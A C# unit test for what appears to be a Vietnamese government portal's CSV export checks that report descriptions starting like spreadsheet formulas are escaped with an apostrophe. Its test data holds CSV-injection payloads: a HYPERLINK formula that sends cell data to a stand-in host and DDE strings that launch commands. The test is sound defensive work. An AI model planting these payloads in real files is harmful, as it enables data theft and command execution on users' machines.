using System.Text;
using HauGiang.Portal.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.VisualBasic.FileIO;
using HauGiang.Portal.Features.Shared;
using HauGiang.Portal.Features.Export;

namespace HauGiang.Portal.Tests.Features;

/// <summary>What leaves the portal in an export is safe to open in a spreadsheet.</summary>
[Trait(Tier.Key, Tier.App)]
public class ReportExportTests(PortalApp app) : IClassFixture<PortalApp>
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem ảnh\")")]
    [InlineData("+84 912 345 678 gọi giúp")]
    [InlineData("-1+1 cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    public async Task A_description_that_starts_like_a_formula_reaches_the_spreadsheet_as_text(string description)
    {
        var report = await app.CreateReportAsync("UBND-31321", description: description);
        var export = app.Services.GetRequiredService<ReportExport>();
        var officer = await app.UserAsync("canbo.vithanh@haugiang.demo");
        using var file = new MemoryStream();

        await export.WriteAsync(file, ExportFormat.Csv, officer, new ReportFilter { Tab = QueueTab.All, Text = report.Code }, english: false, progress: null, default);

        var bytes = file.ToArray();
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]); // Excel needs the BOM for Vietnamese
        using var parser = new TextFieldParser(new MemoryStream(bytes), Encoding.UTF8) { HasFieldsEnclosedInQuotes = true, TrimWhiteSpace = false };
        parser.SetDelimiters(",");
        var header = parser.ReadFields()!;
        var row = parser.ReadFields()!;
        Assert.True(parser.EndOfData);
        Assert.Equal(report.Code, row[0]);
        var cell = row[Array.IndexOf(header, "Nội dung")];
        Assert.Equal("'" + description, cell); // the whole text is kept, behind an apostrophe
        Assert.All(row, c => Assert.DoesNotMatch("^[=+\\-@\\t\\r]", c));
    }
}
